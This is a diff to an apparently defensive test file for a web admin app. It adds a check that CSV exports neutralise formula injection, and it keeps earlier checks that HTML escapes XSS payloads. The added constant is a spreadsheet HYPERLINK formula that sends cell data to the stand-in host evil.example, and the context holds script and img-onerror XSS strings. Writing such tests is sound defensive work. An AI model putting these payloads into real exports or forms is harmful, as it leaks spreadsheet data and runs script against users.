@@ -22,6 +22,8 @@ import { act, EVIDENCE_KEY } from "./fixture.js";
  * attachment the browser never renders.
  */
 const YEAR = 2025;
+/** A name a spreadsheet would run as a formula when it opens the CSV export. */
+const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")';
 const payload = (tag: string) => `${tag}<script>alert(1)</script>"'><img src=x onerror=alert(1)>`;
 /** How a payload looks once escaped for HTML (EJS escapes < > " ' &). */
 const shown = (tag: string) => `${tag}&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#39;&gt;&lt;img src=x onerror=alert(1)&gt;`;
@@ -46,6 +48,7 @@ beforeAll(async () => {
   const ok = (response: request.Response, what: string) => expect(response.status, `${what}: ${response.text.slice(0, 800)}`).toBe(303);
   ok(await admin.submit("/admin/regions/53.01/units/new", "/admin/regions/53.01/units", { name: payload("xunit"), kind: "OTHER", aliases: payload("xalias"), isAssessed: "true" }), "unit");
   unitId = (await db.unit.findFirstOrThrow({ where: { name: payload("xunit") } })).id;
+  ok(await admin.submit("/admin/regions/53.01/units/new", "/admin/regions/53.01/units", { name: FORMULA, kind: "OTHER", isAssessed: "true" }), "formula unit");
   ok(await admin.submit("/admin/regions/53.01/offices/inspektorat/edit", "/admin/regions/53.01/offices/inspektorat", { name: payload("xoffice"), address: payload("xofficeaddress"), superiorTitle: payload("xsuperior") }), "office");
   ok(
     await admin.submit("/admin/regions/53.01/offices/inspektorat/appointments/new", "/admin/regions/53.01/offices/inspektorat/appointments", {
@@ -201,6 +204,9 @@ describe("markup typed into the registry, accounts, holidays and the assessment"
     expect(response.headers["content-disposition"]).toMatch(/^attachment;/);
     expect(response.headers["x-content-type-options"]).toBe("nosniff");
     expect(response.text).toContain(payload("xunit").replace(/"/g, '""'));
+    // A cell that starts like a formula is kept as text: the apostrophe spreadsheets read as "text".
+    expect(response.text).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
+    expect(response.text).not.toMatch(/(^|,)"?[=+@-][A-Za-z]/m);
   });
 });
 
